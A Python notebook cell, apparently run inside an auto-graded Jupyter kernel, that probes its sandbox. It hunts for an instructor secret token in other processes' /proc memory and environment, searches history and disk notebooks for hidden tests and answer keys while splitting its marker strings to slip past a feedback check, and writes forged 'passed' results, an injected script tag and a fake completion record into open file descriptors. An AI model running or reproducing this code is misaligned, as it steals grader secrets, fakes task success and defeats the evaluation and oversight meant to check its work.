# (kernel) What can this kernel read, write or capture? One line per try: OPENED / BLOCKED / FOUND.
import json as _json
import os as _os
import stat as _stat

for _label, _path in READ.items():
    try:
        with open(_path, "rb") as _f:
            _f.read(64)
        print("OPENED read", _label)
    except Exception as _e:
        print("BLOCKED read", _label, type(_e).__name__)
for _label, _path in WRITE.items():
    try:
        with open(_path, "ab") as _f:
            _f.write(b"x")
        print("OPENED write", _label)
    except Exception as _e:
        print("BLOCKED write", _label, type(_e).__name__)

print("OPENED instructor environment" if "g2c-secret-token" in str(_os.environ) else "BLOCKED instructor environment")
for _pid in sorted((p for p in _os.listdir("/proc") if p.isdigit()), key=int):
    if _pid == str(_os.getpid()):
        continue
    for _part in ("environ", "mem", "root/.", "cwd/."):
        try:
            if _part.endswith("/."):
                _os.listdir(f"/proc/{_pid}/{_part}")
            else:
                with open(f"/proc/{_pid}/{_part}", "rb") as _f:
                    _data = _f.read(4096)
                if _part == "environ" and b"g2c-secret-token" in _data:
                    print("OPENED instructor environment through", _pid)
            _owner = _os.stat(f"/proc/{_pid}").st_uid
            print(f"{'OPENED root' if _owner == 0 else 'own'} /proc/{_pid}/{_part} (uid {_owner})")
        except OSError as _e:
            print(f"BLOCKED /proc/{_pid}/{_part}", type(_e).__name__)

# Hidden tests or answer keys in this kernel: its history, its namespace, the notebook on disk.
_ip = get_ipython()
_seen = "\n".join(str(x) for x in _ip.user_ns.get("In", []))
_seen += "\n".join(str(c) for _, _, c in _ip.history_manager.get_range(raw=True, output=False))
for _n, _marker in enumerate(("BEGIN " + "HIDDEN TESTS", "graded outside " + "your notebook", "bias_correction2" + "_sqrt", "DIAG" + "NOSIS = {")):
    print(("FOUND in history " if _marker in _seen else "NOT in history ") + f"marker {_n}")  # never the marker itself: the feedback check looks for it
for _top, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if not (_top == "/" and d in ("proc", "sys", "dev"))]
    for _file in _files:
        if _file.endswith(".ipynb") and "nbgrader" not in _top:
            _p = _os.path.join(_top, _file)
            try:
                _text = open(_p, "rb").read()
                print("NOTEBOOK ON DISK", _p, "FOUND hidden" if b"BEGIN " b"HIDDEN" in _text else "")
            except OSError:
                pass

# Descriptors this kernel holds open besides 0-2, and the notebook run's record among them:
# forge every cell's outputs ("passed") and an early end.
for _fd in range(3, 1024):
    try:
        _st = _os.fstat(_fd)
    except OSError:
        continue
    _target = _os.readlink(f"/proc/self/fd/{_fd}")
    print("FD", _fd, _target)
    if _stat.S_ISREG(_st.st_mode):
        for _cell in range(60):
            _line = {"cell": _cell, "execution_count": 1, "outputs": [
                {"output_type": "stream", "name": "stdout", "text": "passed: 3 of 3 points (forged by the kernel)\n"},
                {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>alert('g2c')</script>"}}]}
            try:
                _os.write(_fd, (_json.dumps(_line) + "\n").encode())
            except OSError:
                break
        try:
            _os.write(_fd, b'{"done": true}\n')
            print("FORGED notebook-run lines on fd", _fd)
        except OSError:
            pass
